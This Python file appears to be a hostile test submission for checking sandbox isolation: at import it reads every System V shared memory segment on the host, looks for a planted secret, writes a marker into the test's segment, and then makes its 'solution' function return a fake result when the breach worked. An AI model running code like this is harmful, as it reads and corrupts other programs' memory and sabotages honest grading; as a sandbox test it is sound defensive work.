"""Attaches System V shared memory of the host: the segment the test created (its key) and every
segment listed in /proc/sysvipc/shm (databases keep their buffers there), reading them and writing
into them. Without an IPC namespace it would read the secret the test put there and could corrupt
another program's memory."""

from __future__ import annotations

import ctypes
import sys

import torch
import torch.distributed as dist

MARKER = "__MARKER__"
SECRET = "__SECRET__"  # only to tell the test whether the loot holds it
KEY = int("__SHM_KEY__")
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
got_through: list[str] = []


def segment_ids() -> list[int]:
    ids = []
    shmid = libc.shmget(ctypes.c_int(KEY), ctypes.c_size_t(0), ctypes.c_int(0))
    if shmid >= 0:
        ids.append(shmid)
    try:
        with open("/proc/sysvipc/shm") as handle:
            ids += [int(line.split()[1]) for line in list(handle)[1:]]
    except (OSError, ValueError, IndexError):
        pass
    return ids


def attack() -> None:
    for shmid in segment_ids():
        address = libc.shmat(shmid, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            continue
        data = ctypes.string_at(address, 4096)
        print(f"segment {shmid}: {data[:80]!r}", file=sys.stderr, flush=True)
        if SECRET.encode() in data:
            got_through.append(f"read the test's segment {shmid}")
            ctypes.memmove(address, MARKER.encode(), len(MARKER))
        libc.shmdt(ctypes.c_void_p(address))


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
